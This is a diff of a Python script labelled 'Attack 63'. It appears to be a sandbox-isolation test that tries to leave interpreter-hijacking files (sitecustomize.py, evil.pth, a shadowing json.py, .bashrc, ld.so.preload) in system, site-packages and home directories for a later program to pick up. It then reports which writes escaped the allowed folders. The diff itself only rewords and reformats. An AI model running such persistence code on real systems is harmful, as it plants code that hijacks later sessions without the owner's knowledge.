@@ -1,4 +1,4 @@
-"""Attack 63, the first program: changes its interpreter, and leaves whatever the next might read at its start."""
+"""Attack 63, the first program: changes its interpreter, and leaves what the next might read at its start."""
 import atexit
 import builtins
 import os
@@ -17,7 +17,8 @@ for variable in ("PYTHONSTARTUP", "PYTHONPATH", "BASH_ENV", "ENV", "NODE_OPTIONS
 written = []
 for directory in {*site.getsitepackages(), site.getusersitepackages(), os.path.dirname(os.__file__), "/etc",
                   "/usr/local/lib/python3.11/dist-packages", "/mnt/data", "/tmp", os.path.expanduser("~")}:
-    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "json.py", ".bashrc", ".profile", "ld.so.preload"):
+    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "json.py", ".bashrc", ".profile",
+                 "ld.so.preload"):
         try:
             os.makedirs(directory, exist_ok=True)
             with open(f"{directory}/{name}", "w") as file:
@@ -26,4 +27,5 @@ for directory in {*site.getsitepackages(), site.getusersitepackages(), os.path.d
         except OSError:
             pass
 sys.settrace(None)
-real_print("outside", sorted({directory for directory in written if not directory.startswith(("/mnt/data", "/tmp"))}))
+inside = ("/mnt/data", "/tmp")
+real_print("outside", sorted({directory for directory in written if not directory.startswith(inside)}))
